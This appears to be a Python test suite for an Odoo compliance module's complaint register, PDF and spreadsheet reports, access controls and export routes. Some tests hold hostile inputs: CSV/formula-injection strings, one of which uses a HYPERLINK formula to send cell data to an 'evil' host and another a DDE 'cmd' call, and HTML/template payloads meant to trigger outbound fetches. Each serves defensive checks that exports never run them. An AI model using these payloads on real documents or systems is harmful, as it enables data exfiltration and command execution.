import base64
import io
import socket
import subprocess
import tempfile
import threading
from datetime import date, datetime
from unittest.mock import patch

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, TransactionCase, tagged
from odoo.tools import format_date, html2plaintext, mute_logger

from odoo.addons.mail.tests.common import mail_new_test_user

YEAR = {'date_from': '2026-01-01', 'date_to': '2026-12-31'}
PAYLOADS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")', '+1+1', '-1+1', '@SUM(1)', "=cmd|' /C calc'!A0",
    '\t=1+1', 'http://evil.example/x',
]


class ReportCase(TransactionCase):
    """A provider with a chain from a complaint to a verified action, and entries of all natures."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls.env['res.company'].create({
            'name': "Provider & Sons", 'company_registry': '123 456 789 00012',
            'qualiopi_nda': '11 75 12345 75', 'qualiopi_mediator': "Example mediation",
        })
        cls.other_company = cls.env['res.company'].create({'name': "Other provider"})
        for company in cls.company | cls.other_company:
            company.resource_calendar_id = cls.env['resource.calendar'].create({
                'name': company.name, 'tz': 'Europe/Paris', 'company_id': company.id,
            })
        cls.env = cls.env(context=dict(
            cls.env.context, allowed_company_ids=cls.company.ids, tracking_disable=True,
        ))
        cls.officer = cls._user('officer', 'qualiopi.group_officer')
        cls.officer2 = cls._user('officer2', 'qualiopi.group_officer')
        cls.auditor = cls._user('auditor', 'qualiopi.group_auditor')
        cls.declarant = cls._user('declarant', 'qualiopi.group_declarant')
        cls.confidential = cls._user(
            'confidential', 'qualiopi.group_officer,qualiopi.group_confidential')
        cls.other = cls._user('other', 'qualiopi.group_officer', cls.other_company)
        cls.portal = cls._user('portal', 'base.group_portal')
        cls.cause = cls.env['qualiopi.cause'].search([('is_undetermined', '=', False)], limit=1)
        cls.learner = cls.env['res.partner'].create({'name': "Test Learner"})
        cls._make_chain()

    @classmethod
    def _user(cls, name, groups, company=None):
        company = company or cls.company
        return mail_new_test_user(
            cls.env, f'report_{name}', groups=groups, name=f"Test {name}", lang='en_US',
            email=f'{name}@example.com', tz='Europe/Paris',
            company_id=company.id, company_ids=[Command.set(company.ids)],
        )

    @classmethod
    def _entry(cls, nature, name, received_on='2026-03-02 09:00:00', user=None, **values):
        return cls.env['qualiopi.complaint'].with_user(user or cls.officer).create({
            'nature': nature, 'name': name, 'description': f"{name}, as it was told",
            'received_on': received_on, 'company_id': cls.company.id, **values,
        })

    @classmethod
    def _make_chain(cls):
        cls.complaint = cls._entry(
            'complaint', "Course material missing", partner_id=cls.learner.id,
            stakeholder_id=cls.env.ref('qualiopi.stakeholder_beneficiary').id,
            ack_date=datetime(2026, 3, 3, 9), ack_message="We have received your complaint",
            remedy_requested="The whole material",
        )
        cls.finding = cls.env['qualiopi.finding'].with_user(cls.officer).create({
            'name': "Material is late", 'description': "Three sessions without material",
            'date': '2026-03-05', 'company_id': cls.company.id,
            'source_id': cls.env.ref('qualiopi.source_complaint').id,
            'complaint_ids': [Command.link(cls.complaint.id)],
            'cause_ids': [Command.set(cls.cause.ids)], 'why_1': "Nobody checks",
        })
        cls.action = cls.env['qualiopi.improvement.action'].with_user(cls.officer).create({
            'name': "Add the material to the closing list", 'company_id': cls.company.id,
            'finding_ids': [Command.link(cls.finding.id)], 'user_id': cls.officer.id,
            'date_start': '2026-03-06', 'date_due': '2026-04-30', 'unit': '%',
            'success_criterion': "All material handed over in time", 'metric': "In time",
            'value_before': 58, 'value_target': 95,
        })
        cls.action.action_plan()
        cls.action.action_start()
        cls.evidence = cls.env['qualiopi.evidence'].with_user(cls.officer).create({
            'action_id': cls.action.id, 'name': "Closing list", 'kind': 'procedure',
            'file': base64.b64encode(b'%PDF-1.4 list'), 'file_name': 'list.pdf',
        })
        cls.action.action_carry_out()
        cls.complaint.write({
            'correction': "Sent at once", 'correction_for': "The group", 'decision': 'founded',
            'response': "You are right, here it is", 'response_date': datetime(2026, 3, 9, 9),
        })
        check = cls.action.check_ids[:1]
        check.with_user(cls.officer2).write({
            'has_value': True, 'value_measured': 97, 'verdict': 'effective',
            'conclusion': "Four sessions looked at, all in time",
        })
        cls.difficulty = cls._entry('difficulty', "Room without lift", '2026-04-02 09:00:00')

    def _html(self, name, ids=None, user=None, **data):
        user = user or self.officer
        report = self.env['ir.actions.report'].with_user(user).with_context(
            allowed_company_ids=user.company_ids.ids)
        return report._render_qweb_html(f'qualiopi.report_{name}', ids, data=data)[0].decode()

    def _text(self, name, ids=None, user=None, **data):
        return ' '.join(html2plaintext(self._html(name, ids, user, **data)).split())

    def _register(self, user=None, **data):
        return self._text('register', user=user, **{**YEAR, 'company_id': self.company.id, **data})

    def _period(self):
        first, last = (format_date(self.env, date(2026, *day)) for day in ((1, 1), (12, 31)))
        return f"From {first} to {last}"

    def _pdf(self, name, ids=None, **data):
        """Text of the pages of a real PDF."""
        report = self.env['ir.actions.report'].with_user(self.officer).with_context(
            force_report_rendering=True)
        with self.allow_pdf_render():
            content, kind = report._render_qweb_pdf(f'qualiopi.report_{name}', ids, data=data)
        self.assertEqual(kind, 'pdf')
        with tempfile.NamedTemporaryFile(suffix='.pdf') as file:
            file.write(content)
            file.flush()
            text = subprocess.run(
                ['pdftotext', '-layout', file.name, '-'], capture_output=True, check=True, encoding='utf-8',
            ).stdout
        return [' '.join(page.split()) for page in text.split('\f')[:-1]]

    def _cells(self, kind, ids=None, user=None, **data):
        __, content = self.env['qualiopi.xlsx'].with_user(user or self.officer)._workbook(
            kind, ids, {**YEAR, 'company_id': self.company.id, **data})
        return openpyxl.load_workbook(io.BytesIO(content))


@tagged('post_install', '-at_install')
class TestReports(ReportCase):

    def test_complaint_sheet(self):
        text = self._text('complaint', self.complaint.ids)
        for expected in (
            self.complaint.reference, "Provider & Sons", "123 456 789 00012", "11 75 12345 75",
            "Course material missing, as it was told", "The whole material",
            "We have received your complaint", self.cause.name, "Nobody checks", "Sent at once",
            "The group", self.action.reference, "Add the material to the closing list", "Founded",
            "You are right, here it is", "Test officer",
        ):
            self.assertIn(expected, text)
        self.assertLess(text.index("Correction: what was done at once"),
                        text.index("Corrective actions: so that it never comes back"))

    def test_complaint_sheet_without_response_steps(self):
        text = self._text('complaint', self.difficulty.ids)
        for absent in ("Acknowledgement", "Response", "Verdict of the complainant"):
            self.assertNotIn(absent, text)
        self.assertIn("None", text)

    def test_anonymous_complainant_is_not_named(self):
        entry = self._entry('complaint', "Noise", partner_id=self.learner.id, is_anonymous=True)
        self.assertNotIn("Test Learner", self._text('complaint', entry.ids))
        self.assertNotIn("Test Learner", self._text('register', entry.ids))

    def test_referential_of_the_day(self):
        """A record prints the version in force on its own day, a period both (rule 7)."""
        v9, v10 = (self.env.ref(f'qualiopi.referential_{code}') for code in ('v9', 'v10'))
        text = self._text('complaint', self.complaint.ids)
        self.assertIn(v9.decree, text)
        self.assertNotIn(v10.decree, text)
        text = self._register()
        self.assertIn(v9.decree, text)
        self.assertIn(v10.decree, text)
        self.assertIn("provisional", text)

    def test_register_sections_and_statistics(self):
        text = self._register()
        self.assertIn("Course material missing", text)
        self.assertIn("Room without lift", text)
        self.assertIn(self._period(), text)
        # No unforeseen event: the section stands there and says so.
        self.assertRegex(text, r"0\W+Unforeseen events\W+None")
        document = self.env['report.qualiopi.report_register'].with_user(self.officer) \
            ._get_report_values(None, {**YEAR, 'company_id': self.company.id})['documents'][0]
        self.assertEqual(document['figures']['ack'],
                         {'count': 1, 'in_time': 1, 'rate': 100, 'median': 1})
        self.assertEqual(document['figures']['response']['rate'], 100)
        self.assertEqual(document['figures']['response']['median'], 5)

    def test_late_and_imported_in_statistics(self):
        self._entry('complaint', "Never acknowledged", '2026-02-02 09:00:00')
        self._entry('complaint', "Old one", '2026-02-02 09:00:00', is_imported=True,
                    old_reference='2025-17')
        text = self._register()
        self.assertIn("(1 of 2)", text)
        self.assertIn("Taken over from the former register (no. 2025-17)", text)

    def test_period(self):
        text = self._register(date_from='2026-04-01', date_to='2026-04-30')
        self.assertIn("Room without lift", text)
        self.assertNotIn("Course material missing", text)
        with self.assertRaises(UserError):
            self._register(date_from='2026-05-01', date_to='2026-04-30')

    def test_numbering(self):
        year = int(self.complaint.reference.split('/')[1])
        data = {'date_from': f'{year}-01-01', 'date_to': f'{year}-12-31'}
        self.assertIn("no number missing", self._register(**data))
        report = self.env['report.qualiopi.report_register'].with_user(self.officer)
        [line] = report._get_report_values(None, data)['documents'][0]['numbering']
        self.assertEqual((line['series'], line['count'], line['missing']), (f'REG/{year}', 2, 0))
        # A row of the register that somebody removed behind the program's back shows.
        self.env.cr.execute('DELETE FROM qualiopi_complaint WHERE id = %s', [self.difficulty.id])
        self.env.invalidate_all()
        [line] = report._get_report_values(None, data)['documents'][0]['numbering']
        self.assertEqual(line['missing'], 1)

    def test_confidential_entries(self):
        secret = self._entry('safeguarding', "Secret words", user=self.confidential)
        moved = self._entry('complaint', "Becomes secret", user=self.confidential)
        moved.category_id = self.env['qualiopi.category'].search([('is_confidential', '=', True)], limit=1)
        self.assertTrue(secret.reference.startswith('SIG/'))
        for user in (self.officer, self.auditor, self.confidential):
            text = self._register(user)
            self.assertNotIn("Secret words", text)
            self.assertNotIn("Becomes secret", text)
            self.assertNotIn(f"{secret.reference} ", text.split("Entries with restricted access")[1])
            self.assertIn(f"{moved.reference} Restricted access", text)
            self.assertIn("confidential series (SIG) in this period: 1", text)
        with self.assertRaises(AccessError):
            self._html('complaint', secret.ids, self.officer)
        self.assertIn("Secret words", self._html('complaint', secret.ids, self.confidential))
        logged = self.env['qualiopi.access.log'].search([
            ('res_model', '=', 'qualiopi.complaint'), ('res_id', '=', secret.id),
            ('user_id', '=', self.confidential.id), ('operation', '=', 'print'),
        ])
        self.assertEqual(len(logged), 1)

    def test_restricted_sources_are_a_count(self):
        secret = self._entry('safeguarding', "Secret words", user=self.confidential)
        self.env.cr.execute(
            'INSERT INTO qualiopi_complaint_finding_rel (finding_id, complaint_id) VALUES (%s, %s)',
            [self.finding.id, secret.id])
        self.env.invalidate_all()
        text = self._text('traceability', self.finding.ids)
        self.assertIn("Entries with restricted access: 1", text)
        self.assertNotIn("Secret words", text)

    def test_action_sheet(self):
        text = self._text('action', self.action.ids)
        for expected in (
            self.finding.reference, self.complaint.reference, "58", "95", "97", "Closing list",
            "list.pdf", self.evidence.sha256, "Effective", "Test officer2", "Four sessions looked at",
        ):
            self.assertIn(expected, text)
        self.assertNotIn("one-person", text)
        self.action.check_ids.sudo().flush_recordset()
        self.env.cr.execute('UPDATE qualiopi_effectiveness_check SET is_self_check = true WHERE action_id = %s',
                            [self.action.id])
        self.env.invalidate_all()
        self.assertIn("Checked by the owner: one-person organisation", self._text('action', self.action.ids))

    def test_action_without_finding_prints_why(self):
        action = self.env['qualiopi.improvement.action'].with_user(self.officer).create({
            'name': "New catalogue", 'company_id': self.company.id,
            'no_finding_reason': "Wish of the management",
        })
        self.assertIn("Wish of the management", self._text('action', action.ids))
        self.assertIn("Wish of the management", self._text('plan', action.ids))

    def test_plan(self):
        text = self._text('plan', **YEAR, company_id=self.company.id)
        for expected in (self.action.reference, self.complaint.reference, self.finding.reference,
                         self.cause.name, "58", "97", "Effective", "Test officer2"):
            self.assertIn(expected, text)

    def test_findings(self):
        text = self._text('findings', **YEAR, company_id=self.company.id)
        for expected in (self.finding.reference, "Three sessions without material", self.action.reference):
            self.assertIn(expected, text)

    def test_traceability_from_each_end(self):
        for name, ids in (('traceability', self.finding.ids),
                          ('traceability_complaint', self.complaint.ids),
                          ('traceability_action', self.action.ids)):
            text = self._text(name, ids)
            places = [text.index(part) for part in (
                "who said it, when", self.complaint.reference, "Three sessions without material",
                self.cause.name, "Add the material", "Closing list", "58", "Four sessions looked at",
            )]
            self.assertEqual(places, sorted(places))
        with self.assertRaises(UserError):
            self._html('traceability_complaint', self.difficulty.ids)

    def test_empty(self):
        for name in ('register', 'plan', 'findings'):
            text = self._text(name, date_from='2001-01-01', date_to='2001-12-31',
                              company_id=self.company.id)
            self.assertIn("None", text)

    def test_other_company(self):
        for name, ids in (('complaint', self.complaint.ids), ('action', self.action.ids),
                          ('traceability', self.finding.ids), ('register', self.complaint.ids)):
            with self.assertRaises(AccessError):
                self._html(name, ids, self.other)
        with self.assertRaises(UserError):
            self._register(self.other)
        own = self._text('register', user=self.other, **YEAR, company_id=self.other_company.id)
        self.assertNotIn("Course material missing", own)

    def test_roles(self):
        self.assertIn("Course material missing", self._register(self.auditor))
        with self.assertRaises(AccessError):
            self._register(self.portal, company_id=self.company.id)
        entry = self._entry('complaint', "What I saw", user=self.declarant)
        text = self._register(self.declarant)
        self.assertIn(entry.name, text)
        self.assertNotIn("Course material missing", text)
        # What a declarant sees is no register: no statement on the numbers.
        self.assertNotIn("no number missing", text)
        self.assertIn("extract for Test declarant", text)

    def test_wizard(self):
        wizard = self.env['qualiopi.print'].with_user(self.auditor).create({'document': 'register'})
        today = date.today()
        self.assertEqual((wizard.date_from, wizard.date_to),
                         (today.replace(month=1, day=1), today.replace(month=12, day=31)))
        wizard.period = 'last_year'
        self.assertEqual(wizard.date_from, date(today.year - 1, 1, 1))
        action = wizard.action_print()
        self.assertEqual(action['report_name'], 'qualiopi.report_register')
        self.assertEqual(action['data']['date_from'], f'{today.year - 1}-01-01')
        wizard.output = 'xlsx'
        self.assertEqual(wizard.action_print()['url'], f'/qualiopi/xlsx/register?wizard={wizard.id}')
        wizard.write({'period': 'other', 'date_from': '2026-02-01', 'date_to': '2026-01-01'})
        with self.assertRaises(UserError):
            wizard.action_print()

    # === REAL PDF === #

    def test_pdf_pages(self):
        pages = self._pdf('register', **YEAR, company_id=self.company.id)
        for number, page in enumerate(pages, 1):
            self.assertIn(f"Page {number}/{len(pages)}", page)
            for expected in ("Provider & Sons", "123 456 789 00012", "11 75 12345 75", "Referential:",
                             "Test officer", self._period(), "Europe/Paris"):
                self.assertIn(expected, page)

    def test_pdf_awkward_texts(self):
        """Endless words, other scripts and turned directions print, and cut nobody else's line (F2)."""
        texts = ('x' * 10_000, 'mot ' * 2_500, 'مرحبا بالعالم', '漢字テスト', 'a\u202eb \U0001f600')
        entries = self.env['qualiopi.complaint']
        for number, text in enumerate(texts):
            entries |= self._entry(
                'complaint', f"Awkward {number}", contact_name=text[:200], response=text, remedy_requested=text)
            entries[-1].description = text
        for name in ('register', 'complaint'):
            pages = ' '.join(self._pdf(name, entries.ids))
            for entry in entries:
                self.assertIn(entry.reference, pages)
                self.assertIn(entry.name, pages)

    def test_pdf_one_sheet_a_record(self):
        pages = self._pdf('complaint', (self.complaint | self.difficulty).ids)
        own = [page for page in pages if self.complaint.reference in page]
        self.assertIn(f"Page 1/{len(own)}", pages[0])
        self.assertIn("Page 1/1", pages[-1])
        self.assertIn(self.difficulty.reference, pages[-1])
        self.assertEqual(len(self._pdf('traceability', self.finding.ids)), 1)

    def test_pdf_fetches_nothing(self):
        """Hostile texts are printed as they are: no request leaves (quality.md, F7)."""
        hits = []
        listener = socket.create_server(('127.0.0.1', 0))
        url = f'http://127.0.0.1:{listener.getsockname()[1]}'

        def listen():
            try:
                while True:
                    connection, __ = listener.accept()
                    hits.append(connection.recv(100))
                    connection.close()
            except OSError:
                return

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        evil = (f'<img src="{url}/a"><iframe src="{url}/b"></iframe><script>x()</script>'
                f'<style>@import url({url}/c);</style>{{{{ 7*7 }}}} <t t-out="1"/> العربية 中文 😀 \u202e')
        entry = self._entry('complaint', evil[:200], description=evil + 'x' * 10000, response=evil,
                            ack_message=evil, correction=evil, contact_name=evil)
        pages = self._pdf('complaint', entry.ids) + self._pdf('register', entry.ids)
        # Odoo's own session would be handed over as a cookie: ours is not even written.
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join(5)
        self.assertEqual(hits, [])
        self.assertIn("<img src=", pages[0])
        self.assertIn("{{ 7*7 }}", ' '.join(pages))

    def test_pdf_failures_are_plain(self):
        path = 'odoo.addons.qualiopi.report.ir_actions_report'
        report = self.env['ir.actions.report'].with_user(self.officer)

        def call():
            with mute_logger(path):
                report._qualiopi_call_wkhtmltopdf([], '/nonexistent/report.pdf')

        with patch(f'{path}.find_in_path', side_effect=OSError), self.assertRaisesRegex(
                UserError, "not installed"):
            call()
        with patch(f'{path}.find_in_path', return_value='false'), self.assertRaisesRegex(
                UserError, "failed on the server"):
            call()
        with patch(f'{path}.find_in_path', return_value='sleep'), patch(f'{path}.PDF_TIME_LIMIT', 0.1), \
                mute_logger(path), self.assertRaisesRegex(UserError, "not ready"):
            report._qualiopi_call_wkhtmltopdf(['5'], '/nonexistent/report.pdf')

    def test_other_reports_are_left_alone(self):
        report = self.env['ir.actions.report'].search([('report_name', 'not like', 'qualiopi.')], limit=1)
        self.assertFalse(report._is_qualiopi_report(report))
        self.assertEqual(report._get_layout(), self.env.ref('web.minimal_layout'))

    # === SPREADSHEETS === #

    def test_xlsx_register(self):
        book = self._cells('register')
        sheet = book.worksheets[0]
        head = [cell.value for cell in sheet[1]]
        self.assertEqual(len(head), 30)
        self.assertEqual(head[:9], [
            "No.", "Nature", "Received on", "Channel", "Stakeholder type", "Complainant",
            "Course / session", "Trainer", "Subject",
        ])
        row = dict(zip(head, sheet[2], strict=True))
        self.assertEqual(row["No."].value, self.complaint.reference)
        self.assertEqual(row["Received on"].value, datetime(2026, 3, 2))
        self.assertEqual(row["Received on"].data_type, 'd')
        self.assertEqual((row["Response delay (d)"].value, row["Response delay (d)"].data_type), (5, 'n'))
        self.assertEqual(row["In time"].value, "Yes")
        self.assertEqual(sheet.freeze_panes, 'B2')
        self.assertEqual(sheet.auto_filter.ref, f'A1:AD{sheet.max_row}')
        self.assertEqual(sheet.print_title_rows, '$1:$1')
        self.assertEqual(sheet.page_setup.orientation, 'landscape')
        self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage)
        about = {line[0].value: line[1].value for line in book.worksheets[1].iter_rows(min_row=2)}
        self.assertEqual(about["SIRET"], "123 456 789 00012")
        self.assertIn("Test officer", about["Printed"])

    def test_xlsx_has_the_rows_of_the_pdf(self):
        document = self.env['report.qualiopi.report_register'].with_user(self.officer) \
            ._get_report_values(None, {**YEAR, 'company_id': self.company.id})['documents'][0]
        printed = [row['reference'] for section in document['sections'] for row in section['printed']]
        sheet = self._cells('register').worksheets[0]
        self.assertEqual([cell.value for cell in sheet['A'][1:]], printed)

    def test_xlsx_plan(self):
        sheet = self._cells('plan').worksheets[0]
        row = dict(zip((cell.value for cell in sheet[1]), sheet[2], strict=True))
        self.assertEqual(len(row), 27)
        self.assertEqual(row["Due on"].value, datetime(2026, 4, 30))
        self.assertEqual((row["Value before"].value, row["Target value"].value, row["Value after"].value),
                         (58, 95, 97))
        self.assertEqual(row["Verified by"].value, "Test officer2")

    def test_xlsx_cells_are_never_formulas(self):
        for payload in PAYLOADS:
            self._entry('complaint', payload, description=payload, contact_name=payload,
                        remedy_requested=payload, correction=payload, response=payload)
        book = self._cells('register')
        values = set()
        for sheet in book.worksheets:
            self.assertFalse(sheet._hyperlinks)
            for line in sheet:
                for cell in line:
                    self.assertIn(cell.data_type, ('s', 'n', 'd'))
                    values.add(cell.value)
        self.assertLessEqual(set(PAYLOADS), values)

    def test_xlsx_long_cell(self):
        """A text beyond what a cell holds is shortened, not left out."""
        self._entry('unforeseen', "Long", description='x' * 40000)
        sheet = self._cells('register').worksheets[0]
        longest = max((cell.value for cell in sheet['J'][1:] if cell.value), key=len)
        self.assertEqual(len(longest), 32767)
        self.assertTrue(longest.endswith('…'))

    # === LOAD === #

    def test_queries_do_not_grow(self):
        def many(count, year):
            findings = self.env['qualiopi.finding'].create([{
                'name': f"Finding {number}", 'date': f'{year}-02-01', 'company_id': self.company.id,
                'cause_ids': [Command.set(self.cause.ids)],
            } for number in range(count)])
            self.env['qualiopi.complaint'].create([{
                'name': f"Entry {number}", 'received_on': f'{year}-02-01 09:00:00',
                'company_id': self.company.id, 'partner_id': self.learner.id,
                'finding_ids': [Command.set(findings[number].ids)],
            } for number in range(count)])
            self.env['qualiopi.improvement.action'].create([{
                'name': f"Action {number}", 'date_start': f'{year}-02-01', 'company_id': self.company.id,
                'finding_ids': [Command.set(findings[number].ids)],
            } for number in range(count)])

        many(20, 2021)
        many(60, 2022)
        actions = {year: self.env['qualiopi.improvement.action'].search(
            [('date_start', '=', f'{year}-02-01')]).ids for year in (2021, 2022)}

        def queries(render, year):
            self.env.flush_all()
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            render(year)
            return self.env.cr.sql_log_count - before

        def period(year):
            return {'date_from': f'{year}-01-01', 'date_to': f'{year}-12-31', 'company_id': self.company.id}

        xlsx = self.env['qualiopi.xlsx'].with_user(self.officer)
        for render in (
            lambda year: self._html('register', **period(year)),
            lambda year: self._html('findings', **period(year)),
            lambda year: self._html('plan', actions[year]),
            lambda year: xlsx._workbook('register', None, period(year)),
            lambda year: xlsx._workbook('plan', actions[year], None),
        ):
            render(2021)
            few, many_more = queries(render, 2021), queries(render, 2022)
            self.assertLessEqual(many_more, few + 4)

    def test_long_lists_are_cut(self):
        report = self.env['report.qualiopi.report_register']
        self.assertEqual([len(part) for part in report._cuts(list(range(1200)))], [500, 500, 200])
        path = 'odoo.addons.qualiopi.report.qualiopi_report_list.PDF_ROWS'
        with patch(path, 1):
            text = self._register()
        self.assertIn("1 more stand in the spreadsheet (XLSX)", text)


@tagged('post_install', '-at_install')
class TestReportRoutes(ReportCase, HttpCase):

    def _get(self, path, user):
        self.authenticate(user.login, user.login)
        return self.url_open(path, allow_redirects=False)

    @classmethod
    def _user(cls, name, groups, company=None):
        user = super()._user(name, groups, company)
        user.password = user.login
        return user

    def test_xlsx_route(self):
        path = f'/qualiopi/xlsx/register?date_from=2026-01-01&date_to=2026-12-31&company_id={self.company.id}'
        response = self._get(path, self.officer)
        self.assertEqual(response.status_code, 200)
        self.assertIn('attachment', response.headers['Content-Disposition'])
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        self.assertEqual(book.worksheets[0]['A2'].value, self.complaint.reference)

    @mute_logger('odoo.http')
    def test_xlsx_route_refuses(self):
        period = 'date_from=2026-01-01&date_to=2026-12-31'
        ids = f'ids={self.complaint.id}'
        self.assertEqual(self._get(f'/qualiopi/xlsx/register?{ids}', self.officer).status_code, 200)
        self.assertEqual(self._get(f'/qualiopi/xlsx/register?{ids}', self.auditor).status_code, 200)
        for path, user in (
            (f'register?{ids}', self.other), (f'register?{ids}', self.declarant),
            (f'register?{ids}', self.portal), (f'register?{period}', self.portal),
            (f'register?{period}&company_id={self.company.id}', self.other),
            (f'nothing?{period}', self.officer), ('register?ids=a,b', self.officer),
            ('register?ids=99999999999999999999', self.officer), ('register?ids=-1', self.officer),
            (f'register?{period}&company_id=-4', self.officer), ('register?wizard=0', self.officer),
            ('register?date_from=2026-02-02&date_to=2026-01-01', self.officer),
        ):
            with self.subTest(path=path, user=user.login):
                self.assertEqual(self._get(f'/qualiopi/xlsx/{path}', user).status_code, 404)
        self.logout()
        self.assertEqual(self.url_open(f'/qualiopi/xlsx/register?{ids}', allow_redirects=False).status_code, 303)

    @mute_logger('odoo.http')
    def test_xlsx_of_a_wizard_is_its_own_users(self):
        wizard = self.env['qualiopi.print'].with_user(self.officer).create({
            'document': 'register', 'res_ids': str(self.complaint.id),
        })
        path = f'/qualiopi/xlsx/register?wizard={wizard.id}'
        self.assertEqual(self._get(path, self.officer).status_code, 200)
        self.assertEqual(self._get(path, self.auditor).status_code, 404)
        self.assertEqual(self._get(f'/qualiopi/xlsx/plan?wizard={wizard.id}', self.officer).status_code, 404)

    def test_report_page(self):
        response = self._get(f'/report/html/qualiopi.report_complaint/{self.complaint.id}', self.officer)
        self.assertEqual(response.status_code, 200)
        self.assertIn("Course material missing", response.text)
        # Our layout loads nothing: Odoo's stylesheet costs seconds.
        self.assertNotIn('/web/assets', response.text)
